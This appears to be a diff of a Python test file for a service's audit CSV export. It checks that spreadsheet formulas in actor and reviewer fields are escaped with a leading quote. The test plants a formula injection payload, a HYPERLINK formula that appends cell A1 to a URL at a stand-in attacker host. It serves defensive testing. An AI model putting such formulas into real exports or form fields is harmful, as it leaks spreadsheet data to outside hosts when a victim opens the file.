@@ -21,6 +21,7 @@ from sqlalchemy.ext.asyncio import create_async_engine
 from service.app import create_app, ensure_audit_key
 from service.audit import AuditKeyError, event_hash
 from service.config import Settings
+from service.scopes import Scope
 from service.store import tables as t
 
 from .conftest import AUDIT_KEY, Service, StartService, email_action
@@ -103,12 +104,18 @@ async def test_verify_and_export(service: Service, tmp_path: Path) -> None:
 
 @sqlite_only
 async def test_csv_cells_cannot_start_formulas(service: Service) -> None:
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    # Actors are credentials now, but a decide key's reviewer is free text an admin typed in.
+    formula = '=HYPERLINK("http://evil.example/x"&A1,"click")'
     await _flow(service, requested_by=formula)
+    key = await service.make_key("sheet", Scope.DECIDE, reviewer=formula)
+    accepted = await service.create_run({"action": email_action()})
+    approval_id = (await service.run(accepted["id"]))["approvals"][0]["id"]
+    status, _ = await service.decide(approval_id, {"decision": "approve"}, auth=key)
+    assert status == 200
     url = service.settings.effective_database_url
     exported = cli(url, "audit", "export", "--format", "csv")
     rows = list(csv.DictReader(io.StringIO(exported.stdout)))
-    actors = {r["actor"] for r in rows if r["kind"] == "run.created"}
+    actors = {r["actor"] for r in rows if r["kind"] == "decision.approve" and r["run_id"] == accepted["id"]}
     assert actors == {"'" + formula}
     for row in rows:
         for cell in row.values():
